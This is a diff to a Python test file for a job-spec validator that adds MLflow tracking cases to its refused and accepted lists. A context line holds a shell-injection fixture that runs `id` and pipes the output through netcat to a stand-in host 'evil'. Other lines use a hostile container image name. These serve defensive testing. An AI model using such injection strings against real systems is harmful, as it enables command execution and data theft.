@@ -123,6 +123,20 @@ REFUSED: list[tuple[str, dict[str, Any], str]] = [
     ("runtime env sets the image", with_spec("runtimeEnv.image_uri", "evil/ray:1"), "image_uri"),
     ("runtime env sets a container", with_spec("runtimeEnv.container", {"image": "evil"}), "container"),
     ("service account from the cluster", with_spec("cluster.serviceAccount", "admin"), "serviceAccount"),
+    ("MLflow without a tracking URI", with_spec("tracking.mlflow", {"experimentName": "e"}), "trackingUri"),
+    (
+        "MLflow URI with a password",
+        with_spec("tracking.mlflow", {"trackingUri": "https://u:p@mlflow.example.com"}),
+        "spec.tracking.mlflow.trackingUri",
+    ),
+    (
+        "MLflow token without a key",
+        with_spec(
+            "tracking.mlflow",
+            {"trackingUri": "https://m.example.com", "credentials": {"token": {"name": "s"}}},
+        ),
+        "spec.tracking.mlflow.credentials.token.key",
+    ),
 ]
 
 SHELL = "$(touch /tmp/pwned); `id` | nc evil 1 & echo ${HOME} > /dev/null"
@@ -142,6 +156,18 @@ ACCEPTED: list[tuple[str, dict[str, Any]]] = [
     ),
     ("non-ASCII text in the model source", with_spec("model", {"source": "org/モデル-1.5B"})),
     ("32 KiB env value", with_spec("runtimeEnv.env", {"NOTE": "x" * 32768})),
+    (
+        "MLflow tracking with a registered model and a token",
+        with_spec(
+            "tracking.mlflow",
+            {
+                "trackingUri": "http://127.0.0.1:9",
+                "registeredModelName": "qwen-sft",
+                "credentials": {"token": {"name": "mlflow", "key": "token"}},
+            },
+        ),
+    ),
+    # the last: the test knows its bookkeeping patch is refused
     ("fromConfig near the object size limit", with_spec("model.fromConfig.padding", "x" * 1_200_000)),
 ]
 
